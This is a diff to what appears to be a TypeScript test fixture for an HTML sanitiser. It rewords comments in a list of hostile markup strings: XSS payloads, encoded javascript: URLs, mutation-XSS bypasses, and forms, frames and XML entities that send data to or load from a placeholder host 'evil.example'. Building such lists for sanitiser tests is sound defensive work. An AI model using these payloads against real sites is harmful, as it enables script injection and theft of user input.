@@ -1,4 +1,4 @@
-/** Markup that must never pass: each text runs, loads, sends or hides something in some browser, or did so past some sanitiser. */
+/** Markup that must never pass: each text runs, loads, sends or hides something in some browser, or got past a sanitiser. */
 export const hostileMarkup: readonly string[] = [
   // Scripts.
   '<script>alert(1)</script>',
@@ -48,7 +48,7 @@ export const hostileMarkup: readonly string[] = [
   '<button popovertarget="x">y</button><p popover id="x" onbeforetoggle="alert(1)">z</p>',
   '<p contenteditable="" oninput="alert(1)">x</p>',
   '<xss onafterscriptexecute="alert(1)"></xss>',
-  // Addresses that run or lead away.
+  // Addresses that run script or lead elsewhere.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="java&#115;cript:alert(1)">x</a>',
   '<a href="jav\tascript:alert(1)">x</a>',
@@ -62,7 +62,7 @@ export const hostileMarkup: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
   '<math><a xlink:href="javascript:alert(1)">x</a></math>',
   '<math href="javascript:alert(1)">x</math>',
-  // Frames, plug-ins and what loads.
+  // Frames, plug-ins and resources.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<frameset><frame src="https://evil.example"></frameset>',
@@ -92,13 +92,13 @@ export const hostileMarkup: readonly string[] = [
   '<svg><foreignObject><p onclick="alert(1)">x</p></foreignObject></svg>',
   '<?xml-stylesheet href="https://evil.example/x.css"?>',
   '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/">]>',
-  // Forms: what is typed goes elsewhere.
+  // Forms that send what is typed elsewhere.
   '<form action="https://evil.example/"><input name="secret"></form>',
   '<form id="x"></form><button form="x" formaction="javascript:alert(1)">x</button>',
   '<button formaction="https://evil.example/">x</button>',
   '<input type="image" src="https://evil.example/pixel">',
   '<isindex action="javascript:alert(1)" type="image">',
-  // Markup that is read differently the second time (mutation XSS).
+  // Markup that is parsed differently the second time (mutation XSS).
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -118,7 +118,7 @@ export const hostileMarkup: readonly string[] = [
   '<svg><![CDATA[><img src=1 onerror=alert(1)>]]></svg>',
   '</ p><img src=1 onerror=alert(1)>',
   '</p/onclick=alert(1)>',
-  // Shadow trees, slots, other elements in a known one's clothes.
+  // Shadow trees, slots, and other elements in disguise.
   '<template><script>alert(1)</script></template>',
   '<p><template shadowrootmode="open"><slot></slot></template></p>',
   '<template shadowroot="open"><script>alert(1)</script></template>',
